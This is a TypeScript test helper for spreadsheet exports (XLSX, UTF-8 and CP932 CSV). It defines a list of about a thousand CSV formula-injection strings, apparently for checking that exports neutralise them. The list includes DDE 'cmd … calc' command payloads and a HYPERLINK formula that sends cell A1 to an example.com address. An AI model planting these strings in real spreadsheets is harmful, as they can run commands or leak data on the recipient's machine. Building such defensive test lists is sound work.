import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Instant } from '@/lib/kernel/instant'
import type { Book, Sheet } from '@/lib/platform/sheets/book'
import { cp932Csv, utf8Csv } from '@/lib/platform/sheets/csv'
import { xlsxOf } from '@/lib/platform/sheets/xlsx'
import type { TableFormat } from '@/lib/rules/exports/formats'
import { bytesOf } from './reading'

export const HEAD = { seq: 123, hash: '3f5a'.repeat(16) }

export function bookOf(...sheets: Sheet[]): Book {
  return {
    fileName: '試し',
    title: '試し',
    contract: { number: '東労発 1104-12', name: '地域連携事業業務' },
    sheets,
    about: [],
    head: HEAD,
    madeAt: '2026-11-21T01:00:05.000Z' as Instant,
  }
}

export function sheetOf(label: string, texts: readonly string[]): Sheet {
  return { name: label, columns: [{ label, width: 40 }], rows: texts.map((text) => [text]) }
}

export function bytesIn(format: TableFormat, book: Book): Promise<Buffer> {
  if (format === 'xlsx') return bytesOf(xlsxOf(book))
  return bytesOf(format === 'csv' ? utf8Csv(book) : cp932Csv(book))
}

const FOLDER = 'test-results/sheets'
const ENDINGS: Record<TableFormat, string> = { xlsx: 'xlsx', csv: 'csv', 'csv-cp932': 'cp932.csv' }

/** Kept for `npm run check:office`, with the texts that another program must show, one a line. */
export function keepFor(name: string, format: TableFormat, bytes: Buffer, texts: readonly string[]): void {
  mkdirSync(FOLDER, { recursive: true })
  const file = join(FOLDER, `${name}.${ENDINGS[format]}`)
  writeFileSync(file, bytes)
  writeFileSync(`${file}.txt`, texts.map((text) => text.replaceAll('\n', ' ')).join('\n'))
}

const LEADS = ['', ' ', '　', '\t', '\n', '"', "'", '\u00a0', '  "', '\u200b']
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '\t=']
const BODIES = [
  '1+1',
  'SUM(1,2)',
  'HYPERLINK("http://example.com/?"&A1,"開く")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://example.com/")',
  'DDE("soffice","x","y")',
  'IMPORTXML("http://example.com","//a")',
  "2+5+cmd|'/c calc'!A0",
  'A1:B2',
  '"; =1+1',
]

/** A thousand texts that another program may take for a formula: every lead before every sign before every body. */
export const HOSTILE: readonly string[] = LEADS.flatMap((lead) =>
  SIGNS.flatMap((sign) => BODIES.map((body) => `${lead}${sign}${body}`)),
)
